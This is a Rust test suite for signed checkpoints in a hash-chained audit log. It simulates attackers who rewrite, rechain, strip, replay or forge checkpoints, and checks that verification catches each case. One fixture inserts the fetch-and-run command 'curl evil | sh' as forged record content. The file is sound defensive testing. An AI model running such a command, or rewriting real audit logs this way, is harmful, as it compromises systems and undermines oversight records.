//! Signed checkpoints: a host attacker who rewrites the log and recomputes its hash chain
//! passes `verify`, and fails `verify_signed` at the first checkpoint after the edit; one who
//! also removes the checkpoints fails too; the key, the coverage and the closing checkpoint
//! work as documented.

use std::path::{Path, PathBuf};

use crate::audit_common::{hashed_line, lines, parse, redactor, tempdir};
use safety::audit::{
    AuditLog, CheckpointSigner, CheckpointVerifier, GENESIS_PREV, generate_checkpoint_key, verify,
    verify_signed,
};
use serde_json::{Value, json};

/// A key pair in `dir`: the signer and the verifier.
fn keys(dir: &Path, name: &str) -> (CheckpointSigner, CheckpointVerifier) {
    let private = dir.join(format!("{}.key", name.replace('/', "_")));
    let public = dir.join(format!("{}.pub", name.replace('/', "_")));
    generate_checkpoint_key(name, &private, &public).unwrap();
    (
        CheckpointSigner::load(&private).unwrap(),
        CheckpointVerifier::load(&public).unwrap(),
    )
}

/// A log of `records` records written by one signing writer with interval `every`, closed.
fn signed_log(dir: &Path, signer: CheckpointSigner, every: u64, records: u64) -> PathBuf {
    let path = dir.join("audit.jsonl");
    let log = AuditLog::open(&path, redactor())
        .unwrap()
        .with_checkpoints(signer, every);
    for n in 1..=records {
        log.append(
            json!({"tool": "run_command", "args": {"command": format!("echo {n}")}, "code": "OK"})
                .as_object()
                .unwrap()
                .clone(),
        )
        .unwrap();
    }
    drop(log);
    path
}

/// What someone who can write the file (but has no key) does: the records as given, each one's
/// `seq` renumbered, `prev` relinked and `hash` recomputed, so the plain chain verifies.
fn rechain(path: &Path, records: Vec<serde_json::Map<String, Value>>) {
    let mut prev = GENESIS_PREV.to_string();
    let mut text = String::new();
    for (i, mut record) in records.into_iter().enumerate() {
        record.remove("hash");
        record.insert("seq".into(), json!(i as u64 + 1));
        record.insert("prev".into(), json!(prev));
        let line = hashed_line(record);
        prev = parse(&line)["hash"].as_str().unwrap().to_string();
        text.push_str(&line);
        text.push('\n');
    }
    std::fs::write(path, text).unwrap();
}

fn is_checkpoint(line: &str) -> bool {
    parse(line).contains_key("checkpoint")
}

#[test]
fn a_signed_log_verifies_and_says_what_its_checkpoints_cover() {
    let dir = tempdir();
    let (signer, verifier) = keys(dir.path(), "host-1.example/audit");
    let path = signed_log(dir.path(), signer, 10, 25);
    let all = lines(&path);
    // The opening checkpoint (seq 1, over the empty log), checkpoints after seq 10 and 20
    // (themselves seq 11 and 21), and the closing one (seq 29): at these lines (0-based).
    let checkpoints: Vec<usize> = (0..all.len()).filter(|i| is_checkpoint(&all[*i])).collect();
    assert_eq!(checkpoints, vec![0, 10, 20, 28], "{all:#?}");
    assert_eq!(parse(&all[0])["checkpoint"]["size"], json!(0));
    let report = verify_signed(&path, Some(&verifier)).unwrap();
    assert_eq!(report.broken, None, "{report:?}");
    assert_eq!(report.records, 29);
    let signed = report.signed.unwrap();
    assert_eq!((signed.checkpoints, signed.covered), (4, 29));
    // The note is a C2SP signed note: body lines, a blank line, the signature line.
    let note = parse(&all[10])["checkpoint"]["note"]
        .as_str()
        .unwrap()
        .to_string();
    let head = parse(&all[9])["hash"].as_str().unwrap().to_string();
    let mut body = note.lines();
    assert_eq!(body.next(), Some("host-1.example/audit"));
    assert_eq!(body.next(), Some("10"));
    assert_eq!(body.next().map(|b| b.len()), Some(44), "base64 of 32 bytes");
    assert!(
        note.contains("\nevery 10\n\n— host-1.example/audit "),
        "{note}"
    );
    assert_eq!(parse(&all[10])["checkpoint"]["head"], json!(head));
}

#[test]
fn a_rewritten_and_rechained_log_passes_the_chain_and_fails_at_the_next_checkpoint() {
    let dir = tempdir();
    let (signer, verifier) = keys(dir.path(), "audit");
    let path = signed_log(dir.path(), signer, 10, 25);
    let mut records: Vec<_> = lines(&path).iter().map(|l| parse(l)).collect();
    // Record 14 (after the first checkpoint) now says the command was refused.
    records[13].insert("code".into(), json!("POLICY_DENIED"));
    rechain(&path, records);
    let plain = verify(&path).unwrap();
    assert_eq!(plain.broken, None, "the chain alone cannot tell: {plain:?}");
    let report = verify_signed(&path, Some(&verifier)).unwrap();
    let (line, why) = report.broken.clone().unwrap();
    assert_eq!(line, 21, "the checkpoint after the edit: {why}");
    assert!(why.contains("chain recomputed"), "{why}");
    // What is still trusted: the records the first checkpoint covers, and itself.
    assert_eq!(report.signed.unwrap().covered, 11);
}

#[test]
fn removing_the_checkpoints_after_an_edit_is_seen() {
    let dir = tempdir();
    let (signer, verifier) = keys(dir.path(), "audit");
    let path = signed_log(dir.path(), signer, 5, 40);
    let mut records: Vec<_> = lines(&path).iter().map(|l| parse(l)).collect();
    records[8].insert("code".into(), json!("POLICY_DENIED"));
    // Every checkpoint after the edit goes, and the chain is recomputed.
    let kept: Vec<_> = records
        .into_iter()
        .enumerate()
        .filter(|(i, r)| *i < 8 || !r.contains_key("checkpoint"))
        .map(|(_, r)| r)
        .collect();
    rechain(&path, kept);
    assert_eq!(verify(&path).unwrap().broken, None);
    let report = verify_signed(&path, Some(&verifier)).unwrap();
    let (_, why) = report.broken.clone().unwrap();
    assert!(why.contains("checkpoints were removed"), "{why}");
    // All of them removed: nothing is covered, and that is an error too.
    let stripped: Vec<_> = lines(&path)
        .iter()
        .map(|l| parse(l))
        .filter(|r| !r.contains_key("checkpoint"))
        .collect();
    rechain(&path, stripped);
    let report = verify_signed(&path, Some(&verifier)).unwrap();
    let (line, why) = report.broken.unwrap();
    assert_eq!(line, 1);
    assert!(why.contains("no checkpoint signed by this key"), "{why}");
}

#[test]
fn checkpoints_signed_by_another_key_do_not_verify_even_under_the_same_name() {
    let dir = tempdir();
    let (_, real) = keys(dir.path(), "audit");
    // The attacker makes a key of their own with the real key's name and signs a log with it.
    let forged = tempdir();
    let (forger, _) = keys(forged.path(), "audit");
    let path = signed_log(forged.path(), forger, 4, 6);
    let report = verify_signed(&path, Some(&real)).unwrap();
    let (line, why) = report.broken.unwrap();
    assert_eq!(line, 1, "the first checkpoint, the opening one: {why}");
    assert!(why.contains("not signed by this key"), "{why}");
}

#[test]
fn the_tail_after_the_last_checkpoint_is_reported_not_covered() {
    let dir = tempdir();
    let (signer, verifier) = keys(dir.path(), "audit");
    let path = dir.path().join("audit.jsonl");
    let log = AuditLog::open(&path, redactor())
        .unwrap()
        .with_checkpoints(signer, 10);
    for n in 0..13 {
        log.append(json!({"n": n}).as_object().unwrap().clone())
            .unwrap();
    }
    // Still open: records 12..=15 wait for the next checkpoint (1, the opening one, and 11
    // are the first).
    let report = verify_signed(&path, Some(&verifier)).unwrap();
    assert_eq!(report.broken, None, "{report:?}");
    assert_eq!(report.records, 15);
    assert_eq!(report.signed.unwrap().covered, 11);
    // Closing covers them.
    drop(log);
    let report = verify_signed(&path, Some(&verifier)).unwrap();
    assert_eq!(report.signed.unwrap().covered, 16);
}

#[test]
fn a_writer_killed_before_its_closing_checkpoint_and_a_rotating_log_verify_without_a_false_alarm() {
    let dir = tempdir();
    let (signer, verifier) = keys(dir.path(), "audit");
    let private = dir.path().join("audit.key");
    let path = dir.path().join("audit.jsonl");
    let write = |log: &AuditLog, from: u64, to: u64| {
        for n in from..to {
            let text = format!("echo {n} {}", "x".repeat(200));
            log.append(json!({ "command": text }).as_object().unwrap().clone())
                .unwrap();
        }
    };
    // Killed: no closing checkpoint (the writer's memory is gone, its lines are on disk).
    let log = AuditLog::open(&path, redactor())
        .unwrap()
        .with_checkpoints(signer, 5);
    write(&log, 0, 9);
    std::mem::forget(log);
    // Restarted, with rotation every 4 KiB: rotation records come between the others.
    let log = AuditLog::open(&path, redactor())
        .unwrap()
        .rotate_at(4096)
        .with_checkpoints(CheckpointSigner::load(&private).unwrap(), 5);
    write(&log, 9, 60);
    drop(log);
    let report = verify_signed(&path, Some(&verifier)).unwrap();
    assert_eq!(report.broken, None, "{report:?}");
    assert!(report.files.len() > 2, "rotated: {:?}", report.files);
    let signed = report.signed.unwrap();
    assert_eq!(signed.covered, report.records, "{report:?}");
}

#[test]
fn a_checkpoint_whose_plain_members_differ_from_its_note_or_that_is_moved_fails() {
    let dir = tempdir();
    let (signer, verifier) = keys(dir.path(), "audit");
    let path = signed_log(dir.path(), signer, 3, 9);
    let records: Vec<_> = lines(&path).iter().map(|l| parse(l)).collect();
    // The JSON says 2 records while the note says 3: rechained, the chain is fine.
    let mut edited = records.clone();
    edited[3]["checkpoint"]["size"] = json!(2);
    rechain(&path, edited);
    assert_eq!(verify(&path).unwrap().broken, None);
    let (line, why) = verify_signed(&path, Some(&verifier))
        .unwrap()
        .broken
        .unwrap();
    assert_eq!(line, 4);
    assert!(
        why.contains("differ from what its signed note says"),
        "{why}"
    );
    // An old, valid checkpoint copied further down (replayed): it names another head.
    let mut replayed = records.clone();
    let old = replayed[3].clone();
    replayed.insert(8, old);
    rechain(&path, replayed);
    let (line, why) = verify_signed(&path, Some(&verifier))
        .unwrap()
        .broken
        .unwrap();
    assert_eq!(line, 9, "{why}");
    assert!(why.contains("chain recomputed"), "{why}");
}

#[test]
fn fields_added_beside_a_checkpoints_note_are_refused() {
    let dir = tempdir();
    let (signer, verifier) = keys(dir.path(), "audit");
    let path = signed_log(dir.path(), signer, 3, 5);
    let mut records: Vec<_> = lines(&path).iter().map(|l| parse(l)).collect();
    // The closing checkpoint dressed up as a command that ran: nothing of that is signed.
    let last = records.len() - 1;
    records[last].insert("tool".into(), json!("run_command"));
    records[last].insert("command".into(), json!("curl evil | sh"));
    rechain(&path, records);
    let (line, why) = verify_signed(&path, Some(&verifier))
        .unwrap()
        .broken
        .unwrap();
    assert_eq!(line as usize, last + 1);
    assert!(why.contains("not signed"), "{why}");
}

#[test]
fn a_writer_stopped_before_closing_or_a_new_interval_needs_no_closing_checkpoint() {
    let dir = tempdir();
    let (signer, verifier) = keys(dir.path(), "audit");
    let private = dir.path().join("audit.key");
    let path = dir.path().join("audit.jsonl");
    let append = |log: &AuditLog, n: u64| {
        for i in 0..n {
            log.append(json!({ "i": i }).as_object().unwrap().clone())
                .unwrap();
        }
    };
    // Stopped by a signal after 3 records of a fresh log: its opening checkpoint is there.
    let log = AuditLog::open(&path, redactor())
        .unwrap()
        .with_checkpoints(signer, 1000);
    append(&log, 3);
    std::mem::forget(log);
    let report = verify_signed(&path, Some(&verifier)).unwrap();
    assert_eq!(report.broken, None, "{report:?}");
    assert_eq!(report.signed.unwrap().covered, 1);
    // Restarted with a smaller interval, then with a larger one: each opens with a
    // checkpoint that says its interval.
    for every in [2, 500] {
        let log = AuditLog::open(&path, redactor())
            .unwrap()
            .with_checkpoints(CheckpointSigner::load(&private).unwrap(), every);
        append(&log, 20);
        drop(log);
    }
    let report = verify_signed(&path, Some(&verifier)).unwrap();
    assert_eq!(report.broken, None, "{report:?}");
    assert_eq!(report.signed.unwrap().covered, report.records);
}
